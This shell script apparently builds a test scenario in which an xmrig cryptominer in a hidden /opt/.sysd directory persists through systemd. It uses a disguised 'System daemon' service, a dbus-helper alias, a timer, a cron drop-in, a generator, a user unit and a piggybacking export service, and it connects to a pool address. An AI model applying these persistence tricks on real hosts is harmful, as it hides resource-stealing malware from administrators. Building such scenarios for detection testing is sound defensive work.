# A miner that a service starts: with the links that enable it, a timer, an addition to cron's own service, a generator and
# a unit of a user. Beside them a service with another purpose that starts it too, one that cleans it up, and a mask.
mkdir -m 755 /opt/.sysd
stand_in miner /opt/.sysd/xmrig
units=/etc/systemd/system
mkdir -p $units/multi-user.target.wants $units/timers.target.wants $units/cron.service.d /etc/systemd/system-generators
printf '%s\n' '[Unit]' 'Description=System daemon' '[Service]' 'ExecStart=@/opt/.sysd/xmrig sysd -o 198.51.100.23:3333' \
    'ExecStopPost=/bin/sh -c "touch /run/ended"' 'Restart=always' '[Install]' 'WantedBy=multi-user.target' > $units/sysd.service
ln -s /etc/systemd/system/sysd.service $units/multi-user.target.wants/sysd.service
ln -s sysd.service $units/dbus-helper.service
printf '%s\n' '[Timer]' 'OnCalendar=*:0/1' '[Install]' 'WantedBy=timers.target' > $units/sysd.timer
ln -s ../sysd.timer $units/timers.target.wants/sysd.timer
printf '%s\n' '[Service]' 'ExecStartPre=-/opt/.sysd/xmrig -B' > $units/cron.service.d/10-limits.conf
printf '%s\n' '#!/bin/sh' 'cat > "$1/again.service" <<EOF' '[Service]' 'ExecStart=/opt/.sysd/xmrig' 'EOF' \
    > /etc/systemd/system-generators/again
chmod 755 /etc/systemd/system-generators/again
mkdir -p /home/deploy/.config/systemd/user/default.target.wants
printf '%s\n' '[Service]' 'ExecStart=/bin/sh -c "exec /opt/.sysd/xmrig -o 198.51.100.23:3333"' \
    > /home/deploy/.config/systemd/user/agent.service
ln -s ../agent.service /home/deploy/.config/systemd/user/default.target.wants/agent.service
chown -hR 1002:1002 /home/deploy/.config

printf '%s\n' '[Service]' 'Type=oneshot' 'ExecStart=/opt/erp/export --all' 'ExecStart=/opt/.sysd/xmrig' > $units/export.service
printf '%s\n' '[Service]' 'Type=oneshot' 'ExecStart=/usr/bin/rm -f /opt/.sysd/xmrig' > $units/clean-up.service
printf '%s\n' '[Timer]' 'OnCalendar=hourly' > $units/clean-up.timer
ln -s /dev/null $units/xmrig.service
as 0 /opt/.sysd/xmrig -o 198.51.100.23:3333 --donate-level 1 -k
wait_for /opt/.sysd/xmrig
